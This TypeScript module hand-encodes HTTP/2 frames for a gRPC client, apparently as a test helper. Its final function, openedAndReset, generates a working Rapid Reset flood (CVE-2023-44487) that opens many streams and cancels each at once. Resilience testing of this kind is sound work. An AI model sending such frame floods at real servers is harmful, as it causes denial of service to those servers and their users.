/** HTTP/2 frames of a client that has no library between itself and the wire (RFC 9113, RFC 7541). */
import { BOOT_PATH } from './wire-client.ts';

function frame(type: number, flags: number, streamId: number, payload: Buffer = Buffer.alloc(0)): Buffer {
  const head = Buffer.alloc(9);
  head.writeUIntBE(payload.length, 0, 3);
  head[3] = type;
  head[4] = flags;
  head.writeUInt32BE(streamId, 5);
  return Buffer.concat([head, payload]);
}

/** The connection preface with empty SETTINGS. */
export const PREFACE = Buffer.concat([
  Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1'),
  frame(4, 0, 0),
]);

const field = (index: number, value: string): Buffer =>
  Buffer.concat([Buffer.of(index, value.length), Buffer.from(value, 'latin1')]);

/** POST, http, and without a table :path, :authority and content-type. */
const headersOf = (path: string): Buffer =>
  Buffer.concat([
    Buffer.of(0x83, 0x86),
    field(0x04, path),
    field(0x01, 'x'),
    Buffer.of(0x0f), // 31 is the first index that does not fit into four bits
    field(0x10, 'application/grpc'),
  ]);

/** The beginning of a call. */
export const opened = (streamId: number, path: string): Buffer => frame(1, 4, streamId, headersOf(path));

/** What it sends. */
export const data = (streamId: number, payload: Buffer): Buffer => frame(0, 0, streamId, payload);

/** Its client gives it up; `code` is CANCEL where it is not given. */
export const reset = (streamId: number, code = 8): Buffer => frame(3, 0, streamId, Buffer.of(0, 0, 0, code));

/** Opens so many boots and resets each in the next frame (CVE-2023-44487). */
export function openedAndReset(streams: number, code: number): Buffer {
  const frames: Buffer[] = [];
  for (let id = 1; id < 2 * streams; id += 2) frames.push(opened(id, BOOT_PATH), reset(id, code));
  return Buffer.concat(frames);
}
